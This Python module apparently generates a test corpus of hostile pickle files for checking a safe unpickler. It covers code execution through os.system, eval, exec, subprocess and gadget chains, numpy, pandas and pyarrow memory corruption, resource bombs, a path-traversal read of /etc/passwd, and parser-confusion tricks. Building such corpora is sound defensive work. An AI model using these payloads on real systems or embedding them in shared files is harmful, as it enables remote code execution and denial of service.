"""Hostile files, each with a payload that leaves a mark if it is ever run.

``hostile(mark)`` yields a name, the bytes and the kind of each. What is run creates the file ``mark``. The kinds:

``code``
    runs a payload when it is unpickled.
``memory``
    makes objects that read or write memory that is not theirs, or crash.
``bomb``
    takes memory or time out of all proportion to its length.
``trick``
    is read differently by different readers, or is no pickle.

``python -m attacks.hostile FOLDER MARK``, in ``tests``, writes them to a folder. Loading them with :mod:`pickle` does
what they say.
"""

import datetime as dt
import pickle
import struct
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

from attacks import assembler as a

Attack = tuple[str, bytes, str]

UNCHANGED = (-1, -1)


def hostile(mark: str) -> Iterator[Attack]:
    """Yield the name, the bytes and the kind of each attack."""
    for part in (code, chains, classes, indirect, written, dtypes, arrays, libraries, bombs, tricks):
        yield from part(mark)


def payload(mark: str) -> bytes:
    """Push the result of a call that creates the file ``mark``."""
    return a.call(a.name("os", "system"), a.text(f"echo run > '{mark}'"))


def creation(mark: str) -> str:
    """Give Python that creates the file ``mark``."""
    return f"open({mark!r}, 'w').close()"


def code(mark: str) -> Iterator[Attack]:
    """Call what should not be called."""
    p = a.proto()
    shell = a.text(f"echo run > '{mark}'")
    python = a.text(creation(mark))
    yield "reduce-os-system", p + payload(mark) + a.STOP, "code"
    for number in (0, 2, 3):
        head = b"" if number == 0 else a.proto(number)
        call = a.line_name("os", "system") + a.MARK + b"V" + f"echo run > '{mark}'".encode() + b"\ntR."
        yield f"reduce-protocol-{number}", head + call, "code"
    yield "reduce-posix-system", p + a.call(a.name("posix", "system"), shell) + a.STOP, "code"
    yield "reduce-eval", p + a.call(a.name("builtins", "eval"), python) + a.STOP, "code"
    yield "reduce-exec", p + a.call(a.name("builtins", "exec"), python) + a.STOP, "code"
    yield (
        "reduce-exec-python-2",
        a.line_name("__builtin__", "eval") + a.MARK + b"V" + creation(mark).encode() + b"\ntR.",
        "code",
    )
    yield "reduce-open", p + a.call(a.name("builtins", "open"), a.text(mark), a.text("w")) + a.STOP, "code"
    yield "reduce-io-open", p + a.call(a.name("io", "open"), a.text(mark), a.text("w")) + a.STOP, "code"
    yield "reduce-file-io", p + a.call(a.name("_io", "FileIO"), a.text(mark), a.text("w")) + a.STOP, "code"
    yield (
        "reduce-subprocess",
        p + a.call(a.name("subprocess", "getoutput"), shell) + a.STOP,
        "code",
    )
    yield "reduce-runcode", p + a.call(a.name("code", "InteractiveInterpreter")) + a.STOP, "code"
    yield (
        "reduce-numpy-runstring",
        p + a.call(a.name("numpy.testing._private.utils", "runstring"), python, a.EMPTY_DICT) + a.STOP,
        "code",
    )
    yield (
        "reduce-pdb",
        p + a.call(a.name("timeit", "timeit"), python, a.text("pass"), a.name("time", "time"), a.integer(1)) + a.STOP,
        "code",
    )
    yield "reduce-cprofile", p + a.call(a.name("cProfile", "run"), python) + a.STOP, "code"
    yield "reduce-pandas-eval", p + a.call(a.name("pandas", "eval"), a.text("__import__('os')")) + a.STOP, "code"
    yield (
        "reduce-pandas-read-pickle",
        p + a.call(a.name("pandas", "read_pickle"), a.text("/nonexistent")) + a.STOP,
        "code",
    )
    yield "reduce-numpy-load", p + a.call(a.name("numpy", "load"), a.text("/x"), a.NONE, b"\x88") + a.STOP, "code"
    yield "reduce-joblib-load", p + a.call(a.name("joblib", "load"), a.text("/nonexistent")) + a.STOP, "code"
    inner = p + payload(mark) + a.STOP
    yield "reduce-pickle-loads", p + a.call(a.name("pickle", "loads"), a.data(inner)) + a.STOP, "code"
    yield "reduce-pickle-loads-c", p + a.call(a.name("_pickle", "loads"), a.data(inner)) + a.STOP, "code"
    yield "reduce-lambda", p + a.call(a.name("types", "FunctionType"), a.NONE, a.EMPTY_DICT) + a.STOP, "code"
    yield "reduce-ctypes", p + a.call(a.name("ctypes", "string_at"), a.integer(0)) + a.STOP, "code"
    yield "reduce-webbrowser", p + a.call(a.name("importlib", "import_module"), a.text("antigravity")) + a.STOP, "code"


def chains(mark: str) -> Iterator[Attack]:
    """Reach what is forbidden through what is not."""
    p = a.proto()
    python = a.text(creation(mark))
    getattr_ = a.name("builtins", "getattr")
    yield (
        "getattr-os-system",
        p + a.call(a.call(getattr_, a.name("os", "path"), a.text("os")), python) + a.STOP,
        "code",
    )
    yield (
        "getattr-of-zone",
        p + a.call(a.call(getattr_, a.name("zoneinfo", "ZoneInfo"), a.text("__init_subclass__"))) + a.STOP,
        "code",
    )
    yield (
        "getattr-as-value",
        p + a.sequence(getattr_) + a.STOP,
        "code",
    )
    yield (
        "zone-path",
        p
        + a.call(
            a.call(getattr_, a.name("zoneinfo", "ZoneInfo"), a.text("_unpickle")),
            a.text("../../etc/passwd"),
            a.integer(1),
        )
        + a.STOP,
        "code",
    )
    yield "dotted", p + a.call(a.name("os", "path.os.system"), a.text(f"echo run > '{mark}'")) + a.STOP, "code"
    yield "dotted-numpy", p + a.call(a.name("numpy", "ndarray.tofile"), a.text(mark)) + a.STOP, "code"
    yield (
        "dotted-trusted-looking",
        p + a.name("collections", "OrderedDict.__init__.__globals__") + a.STOP,
        "code",
    )
    yield "dunder", p + a.name("builtins", "__import__") + a.STOP, "code"
    yield "nul-in-module", p + a.name("os\0numpy", "system") + a.STOP, "code"
    yield "nul-in-name", p + a.name("os", "system\0dtype") + a.STOP, "code"
    yield "nul-in-line", b"cos\0numpy\nsystem\n(Vtrue\ntR.", "code"
    yield "module-with-blank", p + a.name("os ", "system") + a.STOP, "code"
    yield "module-empty", p + a.name("", "system") + a.STOP, "code"
    yield "module-relative", p + a.name(".os", "system") + a.STOP, "code"
    yield "module-not-ascii", p + a.name("ｏｓ", "system") + a.STOP, "code"  # noqa: RUF001
    yield "map", p + a.call(a.name("builtins", "map"), a.name("os", "system"), a.sequence(python)) + a.STOP, "code"
    yield (
        "set-of-map",
        p
        + a.call(
            a.name("builtins", "set"),
            a.call(a.name("builtins", "map"), a.name("builtins", "exec"), a.sequence(python)),
        )
        + a.STOP,
        "code",
    )
    yield (
        "partial",
        p + a.call(a.call(a.name("functools", "partial"), a.name("builtins", "exec")), python) + a.STOP,
        "code",
    )
    yield (
        "methodcaller",
        p + a.call(a.call(a.name("operator", "methodcaller"), a.text("system"), python), a.name("os", "path")) + a.STOP,
        "code",
    )
    yield (
        "defaultdict-factory",
        p + a.call(a.name("collections", "defaultdict"), a.name("os", "getcwd")) + a.STOP,
        "code",
    )
    yield "codecs-other", p + a.call(a.name("_codecs", "encode"), a.text("a"), a.text("rot13")) + a.STOP, "code"
    yield "codecs-decode", p + a.call(a.name("_codecs", "decode"), a.data(b"a"), a.text("zlib")) + a.STOP, "code"


def classes(mark: str) -> Iterator[Attack]:
    """Make objects in other ways than calls."""
    p = a.proto()
    shell = a.text(f"echo run > '{mark}'")
    command = a.sequence(a.text("/bin/sh"), a.text("-c"), shell)
    popen = a.name("subprocess", "Popen")
    yield "newobj-popen", p + popen + a.pack(command) + a.NEWOBJ + a.STOP, "code"
    yield "newobj-ex", p + popen + a.EMPTY_TUPLE + a.mapping(a.text("args"), command) + a.NEWOBJ_EX + a.STOP, "code"
    yield "inst", b"(S\"echo run > '" + mark.encode() + b"'\"\nios\nsystem\n.", "code"
    yield "obj", p + a.MARK + a.name("os", "system") + shell + b"o" + a.STOP, "code"
    yield "obj-popen", p + a.MARK + popen + command + b"o" + a.STOP, "code"
    yield "inst-numpy", b"(I0\ninumpy\nndarray\n.", "memory"
    yield "ext1", p + b"\x82\x01" + a.STOP, "code"
    yield "ext2", p + b"\x83\x01\x01" + a.STOP, "code"
    yield "ext4", p + b"\x84\x01\x01\x01\x01" + a.STOP, "code"
    yield "persistent-line", b"Pos.system\n.", "code"
    yield "persistent", p + a.text("os.system") + b"Q" + a.STOP, "code"
    yield "next-buffer", a.proto(5) + b"\x97" + a.STOP, "trick"
    yield "read-only-buffer", a.proto(5) + a.data(b"") + b"\x98" + a.STOP, "trick"
    yield (
        "reconstructor-base",
        p + a.call(a.name("copyreg", "_reconstructor"), popen, a.name("builtins", "object"), a.NONE) + a.STOP,
        "code",
    )
    yield (
        "reconstructor-int",
        p
        + a.call(
            a.name("copyreg", "_reconstructor"), a.name("builtins", "bool"), a.name("builtins", "int"), a.integer(7)
        )
        + a.STOP,
        "memory",
    )
    yield "type-call", p + a.call(a.name("builtins", "type"), a.text("X"), a.EMPTY_TUPLE, a.EMPTY_DICT) + a.STOP, "code"


def indirect(mark: str) -> Iterator[Attack]:
    """Set what is called later."""
    p = a.proto()
    exec_ = a.name("builtins", "exec")
    yield (
        "build-setstate",
        p
        + a.name("types", "SimpleNamespace")
        + a.EMPTY_TUPLE
        + a.REDUCE
        + a.mapping(a.text("__setstate__"), exec_)
        + a.BUILD
        + a.text(creation(mark))
        + a.BUILD
        + a.STOP,
        "code",
    )
    yield (
        "build-on-class",
        p
        + a.name("collections", "OrderedDict")
        + a.pack(a.NONE, a.mapping(a.text("__reduce__"), exec_))
        + a.BUILD
        + a.STOP,
        "code",
    )
    yield (
        "build-on-function",
        p + a.name("_codecs", "encode") + a.mapping(a.text("__doc__"), a.text("x")) + a.BUILD + a.STOP,
        "code",
    )
    yield "build-on-module", p + a.name("os", "path") + a.mapping(a.text("join"), exec_) + a.BUILD + a.STOP, "code"
    yield (
        "build-slots",
        p
        + a.name("uuid", "UUID")
        + a.EMPTY_TUPLE
        + a.NEWOBJ
        + a.pack(a.NONE, a.mapping(a.text("__class__"), exec_))
        + a.BUILD
        + a.STOP,
        "code",
    )
    yield (
        "append-to-object",
        p + a.call(a.name("builtins", "bytearray"), a.data(b"ab")) + a.integer(1) + b"a" + a.STOP,
        "memory",
    )
    yield "extend-function", p + a.name("os", "path") + a.MARK + a.text("x") + b"e" + a.STOP, "code"
    yield "setitem-on-list", p + a.sequence(a.integer(1)) + a.integer(0) + payload(mark) + b"s" + a.STOP, "code"
    yield (
        "setitem-on-array",
        p + array(a, dtype(a, "f8"), 1, bytes(8)) + a.integer(0) + a.integer(1) + b"s" + a.STOP,
        "memory",
    )
    yield (
        "memo-swap",
        p
        + a.text("numpy")
        + a.put(0)
        + b"0"
        + a.text("os")
        + a.put(0)
        + b"0"
        + a.get(0)
        + a.text("getcwd")
        + b"\x93)R"
        + a.STOP,
        "code",
    )
    yield (
        "memoize-after-gap",
        # MEMOIZE takes the number of values there are, 1 here, which BINPUT took.
        p
        + a.text("numpy")
        + a.put(1)
        + b"0"
        + a.text("os")
        + a.MEMOIZE
        + b"0"
        + a.get(1)
        + a.text("getcwd")
        + b"\x93)R"
        + a.STOP,
        "code",
    )
    yield "hidden-by-pop", p + payload(mark) + b"0" + a.NONE + a.STOP, "code"
    yield "hidden-by-pop-mark", p + a.MARK + payload(mark) + b"1" + a.NONE + a.STOP, "code"
    yield "second-protocol", p + a.NONE + b"0" + a.proto(0) + a.NONE + a.STOP, "trick"
    yield (
        "old-name-by-protocol",
        a.proto(2) + a.line_name("commands", "getoutput") + a.pack(a.text("true")) + a.REDUCE + a.STOP,
        "code",
    )


def written(mark: str) -> Iterator[Attack]:
    """Let Python write the pickle."""

    class Runs:
        def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
            return eval, (f"open({mark!r}, 'w').close()",)

    for number in range(6):
        yield f"object-protocol-{number}", pickle.dumps(Runs(), number), "code"
    yield "object-as-key", pickle.dumps({(1, 2): [Runs()]}), "code"
    yield "object-in-date", pickle.dumps([dt.date(2020, 1, 1), {"x": (Runs(),)}]), "code"
    good = pickle.dumps([1, 2])
    yield "second-pickle", good + pickle.dumps(Runs()), "trick"
    buffered = bytearray(a.proto(5))
    buffered += b"C\x20retain\0\1" + bytes(24) + b"0"
    buffered += pickle.dumps(Runs(), 4)[2:]
    yield "behind-a-head-of-retain", bytes(buffered), "code"
    trailer = b"\x8e" + struct.pack("<Q", 4) + b"abcd0"
    yield "in-front-of-a-trailer", a.proto(5) + payload(mark) + trailer + a.STOP, "code"


def dtype(asm: object, kind: str, order: str = "<", flags: int = 0, size: tuple[int, int] = UNCHANGED) -> bytes:
    """Push a dtype with this state."""
    del asm
    return (
        a.call(a.name("numpy", "dtype"), a.text(kind), b"\x89", b"\x88")
        + a.pack(
            a.integer(3),
            a.text(order),
            a.NONE,
            a.NONE,
            a.NONE,
            a.integer(size[0]),
            a.integer(size[1]),
            a.integer(flags),
        )
        + a.BUILD
    )


def structured(kind: str, fields: dict[str, tuple[bytes, int]], size: int, flags: int = 16) -> bytes:
    """Push a dtype with these fields."""
    described = b"".join(a.text(key) + a.pack(part, a.integer(offset)) for key, (part, offset) in fields.items())
    return (
        a.call(a.name("numpy", "dtype"), a.text(kind), b"\x89", b"\x88")
        + a.pack(
            a.integer(3),
            a.text("|"),
            a.NONE,
            a.pack(*map(a.text, fields)),
            a.EMPTY_DICT + a.MARK + described + b"u",
            a.integer(size),
            a.integer(1),
            a.integer(flags),
        )
        + a.BUILD
    )


def array(asm: object, kind: bytes, length: int, content: bytes) -> bytes:
    """Push an array by ``_reconstruct``."""
    del asm
    return (
        a.call(
            a.name("numpy.core.multiarray", "_reconstruct"),
            a.name("numpy", "ndarray"),
            a.pack(a.integer(0)),
            a.data(b"b"),
        )
        + a.pack(a.integer(1), a.pack(a.integer(length)), kind, b"\x89", a.data(content))
        + a.BUILD
    )


def over(kind: bytes, shape: bytes, content: bytes) -> bytes:
    """Push an array by ``_frombuffer``."""
    return a.call(a.name("numpy.core.numeric", "_frombuffer"), a.data(content), kind, shape, a.text("C"))


def dtypes(_mark: str) -> Iterator[Attack]:
    """Lie about what memory holds."""
    p = a.proto()
    wild = b"\x41" * 8
    objects = dtype(a, "O8", "|", 0)
    yield "objects-without-flags", p + array(a, objects, 1, wild) + a.STOP, "memory"
    yield "objects-over-bytes", p + over(dtype(a, "O8", "|", 63), a.pack(a.integer(1)), wild) + a.STOP, "memory"
    yield "objects-of-bytes", p + array(a, dtype(a, "O8", "|", 63), 1, wild) + a.STOP, "memory"
    yield (
        "scalar-of-objects",
        p + a.call(a.name("numpy.core.multiarray", "scalar"), dtype(a, "O8", "|", 0), a.data(wild)) + a.STOP,
        "memory",
    )
    yield "size-of-another", p + array(a, dtype(a, "f8", size=(4, 4)), 2, wild) + a.STOP, "memory"
    yield "text-longer-than-said", p + array(a, dtype(a, "S4", "|", 0, (4000, 1)), 1, b"abcd") + a.STOP, "memory"
    yield (
        "field-beyond-end",
        p + array(a, structured("V8", {"x": (dtype(a, "f8"), 4096)}, 8), 1, wild) + a.STOP,
        "memory",
    )
    yield (
        "field-before-start",
        p + array(a, structured("V8", {"x": (dtype(a, "f8"), -8)}, 8), 1, wild) + a.STOP,
        "memory",
    )
    hidden = structured("V8", {"x": (dtype(a, "O8", "|", 63), 0)}, 8, 16)
    yield "hidden-object-field", p + array(a, hidden, 1, wild) + a.STOP, "memory"
    both = structured("V8", {"x": (dtype(a, "O8", "|", 63), 0), "y": (dtype(a, "i8"), 0)}, 8, 27)
    yield "integer-over-object", p + both + a.STOP, "memory"
    yield "built-twice", p + dtype(a, "f8") + a.pack(a.integer(3)) + a.BUILD + a.STOP, "memory"
    shared = a.call(a.name("numpy", "dtype"), a.text("f8"), b"\x89", b"\x89")
    state = a.pack(a.integer(3), a.text(">"), a.NONE, a.NONE, a.NONE, a.integer(-1), a.integer(-1), a.integer(0))
    yield "shared-dtype-changed", p + shared + state + a.BUILD + a.STOP, "memory"
    yield (
        "never-built",
        p + array(a, a.call(a.name("numpy", "dtype"), a.text("O8"), b"\x89", b"\x88"), 1, wild) + a.STOP,
        "memory",
    )
    nested = dtype(a, "f8")
    for number in range(40):
        nested = structured("V8", {"a": (nested + a.put(number), 0), "b": (a.get(number), 0)}, 8)
    yield "dtype-doubled-forty-times", p + nested + a.STOP, "bomb"
    base = a.pack(dtype(a, "f8"), a.pack(a.integer(2**40)))
    wide = a.call(a.name("numpy", "dtype"), a.text("V8"), b"\x89", b"\x88") + a.pack(
        a.integer(3), a.text("|"), base, a.NONE, a.NONE, a.integer(8), a.integer(8), a.integer(0)
    )
    yield "subarray-larger-than-itself", p + wide + a.BUILD + a.STOP, "memory"


def arrays(_mark: str) -> Iterator[Attack]:
    """Lie about how large an array is."""
    p = a.proto()
    f8 = dtype(a, "f8")
    yield "longer-than-data", p + array(a, f8, 1 << 40, bytes(8)) + a.STOP, "memory"
    yield "shorter-than-data", p + array(a, f8, 1, bytes(80)) + a.STOP, "memory"
    yield "negative", p + array(a, f8, -1, bytes(8)) + a.STOP, "memory"
    overflow = a.pack(a.integer(2**32), a.integer(2**32))
    yield "overflow", p + over(f8, overflow, b"") + a.STOP, "memory"
    yield "buffer-too-short", p + over(f8, a.pack(a.integer(100)), bytes(8)) + a.STOP, "memory"
    yield (
        "ndarray-called",
        p + a.call(a.name("numpy", "ndarray"), a.pack(a.integer(1 << 30)), a.text("f8")) + a.STOP,
        "bomb",
    )
    twice = (
        array(a, f8 + a.put(0), 1, bytes(8))
        + a.pack(a.integer(1), a.pack(a.integer(0)), a.get(0), b"\x89", a.data(b""))
        + a.BUILD
    )
    yield "state-set-twice", p + twice + a.STOP, "memory"
    empty = a.call(
        a.name("numpy.core.multiarray", "_reconstruct"),
        a.name("numpy", "ndarray"),
        a.pack(a.integer(10**9)),
        a.data(b"d"),
    )
    yield "uninitialised", p + empty + a.STOP, "memory"
    yield (
        "class-of-others",
        p
        + a.call(
            a.name("numpy.core.multiarray", "_reconstruct"),
            a.name("builtins", "object"),
            a.pack(a.integer(0)),
            a.data(b"b"),
        )
        + a.STOP,
        "memory",
    )
    wrapper = a.name("joblib.numpy_pickle", "NumpyArrayWrapper") + a.EMPTY_TUPLE + a.NEWOBJ

    def wrapped(kind: bytes, shape: bytes, tail: bytes, alignment: bytes = a.NONE) -> bytes:
        state = a.mapping(
            a.text("subclass"), a.name("numpy", "ndarray"), a.text("shape"), shape, a.text("order"), a.text("C"),
            a.text("dtype"), kind, a.text("allow_mmap"), b"\x88", a.text("numpy_array_alignment_bytes"), alignment,
        )  # fmt: skip
        return p + wrapper + state + a.BUILD + tail + a.STOP

    one = a.pack(a.integer(1))
    yield "joblib-objects-without-flags", wrapped(dtype(a, "O8", "|", 0), one, b"\x41" * 8), "memory"
    yield "joblib-longer-than-file", wrapped(f8, a.pack(a.integer(1 << 40)), bytes(8)), "memory"
    yield "joblib-negative", wrapped(f8, a.pack(a.integer(-1)), bytes(8)), "memory"
    evil = a.proto() + payload(_mark) + a.STOP
    yield "joblib-nested-pickle", wrapped(dtype(a, "O8", "|", 63), one, evil), "code"
    yield "joblib-nested-other", wrapped(dtype(a, "O8", "|", 63), one, a.proto() + a.EMPTY_LIST + a.STOP), "memory"
    yield "joblib-alignment", wrapped(f8, one, b"\x00" + bytes(8), a.integer(1 << 20)), "trick"
    mimic = a.call(a.name("os", "system"), a.text(f"echo run > '{_mark}'")) + b"0"
    hidden = mimic + bytes(-len(mimic) % 8)
    yield "joblib-code-behind-array", wrapped(f8, a.pack(a.integer(0)), hidden.rstrip(b"\0")), "code"


def libraries(_mark: str) -> Iterator[Attack]:
    """Lie about indices that libraries believe."""
    p = a.proto()
    i4, f8 = dtype(a, "i4"), dtype(a, "f8")

    def row(*numbers: int) -> bytes:
        return over(i4, a.pack(a.integer(len(numbers))), struct.pack(f"<{len(numbers)}i", *numbers))

    def csr(indices: bytes, indptr: bytes, length: int) -> bytes:
        state = a.mapping(
            a.text("_shape"), a.pack(a.integer(2), a.integer(2)), a.text("maxprint"), a.integer(50), a.text("indices"),
            indices, a.text("indptr"), indptr, a.text("data"), over(f8, a.pack(a.integer(length)), bytes(8 * length)),
        )  # fmt: skip
        return p + a.name("scipy.sparse._csr", "csr_matrix") + a.EMPTY_TUPLE + a.NEWOBJ + state + a.BUILD + a.STOP

    yield "csr-index-outside", csr(row(0, 99999999), row(0, 1, 2), 2), "memory"
    yield "csr-index-negative", csr(row(0, -5), row(0, 1, 2), 2), "memory"
    yield "csr-rows-beyond", csr(row(0, 1), row(0, 1, 1 << 30), 2), "memory"
    yield "csr-rows-missing", csr(row(0, 1), row(0, 2), 2), "memory"

    def text_array(offsets: bytes, content: bytes, length: int) -> bytes:
        buffer = a.name("pyarrow.lib", "py_buffer")
        of = a.call(a.name("pyarrow.lib", "type_for_alias"), a.text("large_string"))
        state = a.pack(
            of, a.integer(length), a.integer(0), a.integer(0),
            a.sequence(a.NONE, a.call(buffer, a.data(offsets)), a.call(buffer, a.data(content))), a.EMPTY_LIST, a.NONE,
        )  # fmt: skip
        return p + a.call(a.name("pyarrow.lib", "_restore_array"), state) + a.STOP

    yield "arrow-offset-beyond", text_array(struct.pack("<2q", 0, 1 << 40), b"a", 1), "memory"
    yield "arrow-offset-back", text_array(struct.pack("<3q", 0, 1, -9), b"a", 2), "memory"
    yield "arrow-longer-than-offsets", text_array(struct.pack("<2q", 0, 1), b"a", 1 << 20), "memory"
    yield "arrow-no-utf8", text_array(struct.pack("<2q", 0, 1), b"\xff", 1), "memory"

    def blocks(start: int, stop: int) -> bytes:
        new = a.name("pandas.core.indexes.base", "_new_Index")
        place = a.call(a.name("builtins", "slice"), a.integer(start), a.integer(stop), a.integer(1))
        values = over(f8, a.pack(a.integer(1), a.integer(2)), bytes(16))
        block = a.call(a.name("pandas._libs.internals", "_unpickle_block"), values, place, a.integer(2))

        def axis(length: int) -> bytes:
            state = a.mapping(
                a.text("name"), a.NONE, a.text("start"), a.integer(0), a.text("stop"), a.integer(length),
                a.text("step"), a.integer(1),
            )  # fmt: skip
            return a.call(new, a.name("pandas", "RangeIndex"), state)

        axes = a.sequence(axis(1), axis(2))
        return p + a.call(a.name("pandas.core.internals.managers", "BlockManager"), a.pack(block), axes) + a.STOP

    whole = a.call(a.name("builtins", "slice"), a.integer(0), a.integer(2), a.integer(1))
    flat = over(f8, a.pack(a.integer(2)), bytes(16))
    yield (
        "pandas-block-of-a-series",
        p + a.call(a.name("pandas._libs.internals", "_unpickle_block"), flat, whole, a.integer(1)) + a.STOP,
        "memory",
    )
    yield "pandas-block-beyond", blocks(1 << 30, (1 << 30) + 1), "memory"
    yield "pandas-block-negative", blocks(-1000, -999), "memory"
    key = over(dtype(a, "u4"), a.pack(a.integer(624)), bytes(2496))
    bits = a.call(a.name("numpy.random._pickle", "__bit_generator_ctor"), a.text("MT19937"))
    state = a.mapping(
        a.text("bit_generator"), a.text("MT19937"), a.text("state"),
        a.mapping(a.text("key"), key, a.text("pos"), a.integer(1 << 30)),
    )  # fmt: skip
    yield "random-position-beyond", p + bits + state + a.BUILD + a.STOP, "memory"


def bombs(_mark: str) -> Iterator[Attack]:
    """Take more than there is."""
    p = a.proto()
    yield "memo-index", p + a.NONE + b"r\xff\xff\xff\xff" + a.STOP, "bomb"
    yield "memo-index-line", b"Np99999999999\n.", "bomb"
    yield "bytes-length", p + b"\x8e" + struct.pack("<Q", 1 << 46) + b"a" + a.STOP, "bomb"
    yield "bytes-length-huge", p + b"\x8e" + b"\xff" * 8 + b"a" + a.STOP, "bomb"
    yield "text-length", p + b"\x8d" + struct.pack("<Q", 1 << 46) + b"a" + a.STOP, "bomb"
    yield "bytearray-length", a.proto(5) + b"\x96" + struct.pack("<Q", 1 << 46) + b"a" + a.STOP, "bomb"
    yield "frame-length", p + b"\x95" + b"\xff" * 8 + a.NONE + a.STOP, "bomb"
    yield "bytearray-of-size", p + a.call(a.name("builtins", "bytearray"), a.integer(1 << 40)) + a.STOP, "bomb"
    deep = p + a.EMPTY_TUPLE + b"\x85" * 200_000
    yield "deep-key", deep + a.put(0) + b"0" + a.EMPTY_DICT + a.get(0) + a.NONE + b"s" + a.STOP, "bomb"
    yield "deep-list", p + b"]" * 200_000 + b"a" * 199_999 + a.STOP, "bomb"
    laughs = a.EMPTY_TUPLE + b"".join(a.put(n) + a.get(n) + b"\x86" for n in range(60))
    yield "laughing-key", p + a.EMPTY_DICT + laughs + a.NONE + b"s" + a.STOP, "bomb"
    yield "laughing-member", p + b"\x8f" + a.MARK + laughs + b"\x90" + a.STOP, "bomb"
    many = (
        p
        + a.sequence(*[a.NONE] * 100_000)
        + a.put(0)
        + b"0"
        + a.name("builtins", "frozenset")
        + a.put(1)
        + b"0"
        + a.MARK
    )
    yield "list-copied-often", many + (a.get(1) + a.get(0) + b"\x85R") * 20_000 + b"t" + a.STOP, "bomb"
    yield "long-digits", b"I" + b"9" * 1_000_000 + b"\n.", "bomb"
    yield from chains_of_containers()
    yield from keys()
    class_ = a.name("types", "SimpleNamespace") + a.put(0) + b"0"
    state = a.mapping(*[a.text(f"k{n}") + a.NONE for n in range(900)]) + a.put(1) + b"0"
    one = a.get(0) + b")R" + a.get(1) + a.BUILD
    yield "namespaces-of-one-state", p + class_ + state + a.sequence(one * 20_000) + a.STOP, "bomb"
    numbers = a.sequence(a.integer(1) * 100_000, a.NONE) + a.put(0) + b"0"
    array_ = a.name("array", "array") + a.put(1) + b"0" + a.text("b") + a.put(2) + b"0"
    refused = (a.get(1) + a.get(2) + a.get(0) + b"\x86R0") * 20_000
    yield "list-refused-often", p + numbers + array_ + refused + a.NONE + a.STOP, "bomb"
    for code, size in (("S0", (0, 1)), ("V0", (0, 1))):
        nothing = array(a, dtype(a, code, "|", 0, size), 1 << 30, b"")
        yield f"array-of-nothing-{code}", p + nothing + a.STOP, "bomb"
    few = array(a, dtype(a, "S0", "|", 0, (0, 1)), 5, b"")
    index = a.call(
        a.name("pandas.core.indexes.base", "_new_Index"),
        a.name("pandas", "Index"),
        a.mapping(a.text("data"), few, a.text("name"), a.NONE),
    )
    yield "index-of-nothing", p + index + a.STOP, "bomb"


def chains_of_containers() -> Iterator[Attack]:
    """String containers together from the first to the last, so that each was shallow when it was put into another."""
    for name, item, add in (("deque", b"", b"a"), ("defaultdict", a.NONE, b"s")):
        class_ = a.name("collections", name) + a.put(0) + b"0"
        made = b"".join(a.get(0) + b")R" + a.put(n) + b"0" for n in range(1, 300_001))
        strung = b"".join(a.get(n) + item + a.get(n + 1) + add + b"0" for n in range(1, 300_000))
        yield f"chain-of-{name}s", a.proto() + class_ + made + strung + a.get(1) + a.STOP, "bomb"


def keys() -> Iterator[Attack]:
    """Make keys that take long to compare."""
    p = a.proto()

    def tower(first: int) -> bytes:
        levels = (a.MARK + a.get(n) + a.get(n) + b"\x85\x91" + a.put(n + 1) for n in range(first, first + 60))
        return a.MARK + a.integer(1) + b"\x91" + a.put(first) + b"".join(levels)

    both = a.MARK + tower(0) + b"1" + a.MARK + tower(100) + b"1"
    yield "frozensets-doubled", p + both + a.mapping(a.get(60) + a.NONE, a.get(160) + a.NONE) + a.STOP, "bomb"
    modulus = sys.hash_info.modulus
    numbers = b"".join(a.integer(modulus * n) for n in range(1 << 20, (1 << 20) + 40_000))
    yield "integers-of-one-hash", p + b"\x8f" + a.MARK + numbers + b"\x90" + a.STOP, "bomb"
    one = a.integer(1) + a.put(0) + b"0" + a.integer(1 + modulus) + a.put(1) + b"0"
    tuples = b"".join(a.pack(*[a.get(n >> bit & 1) for bit in range(15)]) for n in range(1 << 15))
    yield "tuples-of-one-hash", p + one + b"\x8f" + a.MARK + tuples + b"\x90" + a.STOP, "bomb"
    class_ = a.name("decimal", "Decimal") + a.put(0) + b"0"
    decimals = b"".join(a.get(0) + a.text(str(modulus * n)) + b"\x85R" for n in range(40_000))
    yield "decimals-of-one-hash", p + class_ + b"\x8f" + a.MARK + decimals + b"\x90" + a.STOP, "bomb"


def tricks(mark: str) -> Iterator[Attack]:
    """Write what readers disagree about, or no pickle at all."""
    p = a.proto()
    yield "empty", b"", "trick"
    yield "only-stop", b".", "trick"
    yield "no-stop", p + a.NONE, "trick"
    yield "unknown-opcode", p + b"\xff" + a.STOP, "trick"
    yield "protocol-6", b"\x80\x06N.", "trick"
    yield "values-left", p + a.NONE + a.NONE + a.STOP, "trick"
    yield "mark-left", p + a.MARK + a.STOP, "trick"
    yield "pop-of-nothing", p + b"0" + a.NONE + a.STOP, "trick"
    yield "below-a-mark", p + a.NONE + a.MARK + b"\x85" + a.STOP, "trick"
    yield "odd-dict", p + a.EMPTY_DICT + a.MARK + a.NONE + b"u" + a.STOP, "trick"
    yield "list-as-key", p + a.EMPTY_DICT + a.EMPTY_LIST + a.NONE + b"s" + a.STOP, "trick"
    yield "integer-with-blanks", b"I 1_0 \n.", "trick"
    yield "text-no-utf8", p + b"X\x01\0\0\0\xff" + a.STOP, "trick"
    yield "escape-cut", b"V\\u12\n.", "trick"
    yield "frame-beyond-stop", p + b"\x95" + struct.pack("<Q", 3) + a.NONE + a.STOP + b"\0", "trick"
    # From memory the name is os, from a file another: what is left of the frame is dropped.
    yield "frame-cut", p + b"\x95" + struct.pack("<Q", 6) + payload(mark) + a.STOP, "code"
    cut = b"\x95" + struct.pack("<Q", 3) + a.text("numpy") + b"0" + a.NONE + a.STOP
    yield "frame-within-opcode", p + cut, "trick"
    yield "frame-in-frame", p + (b"\x95" + struct.pack("<Q", 12)) * 2 + a.NONE * 3 + a.STOP, "trick"
    yield "behind-stop", p + a.NONE + a.STOP + p + payload(mark) + a.STOP, "trick"
    yield "zlib-bomb-in-bytes", p + a.call(a.name("zlib", "decompress"), a.data(b"x")) + a.STOP, "code"


def main(folder: str, mark: str) -> None:
    """Write all attacks to ``folder``."""
    place = Path(folder)
    place.mkdir(parents=True, exist_ok=True)
    count = 0
    for name, content, kind in hostile(mark):
        (place / f"{kind}-{name}.pkl").write_bytes(content)
        count += 1
    print(f"{count} hostile files in {place}: do not load them")


if __name__ == "__main__":
    main(*sys.argv[1:3])
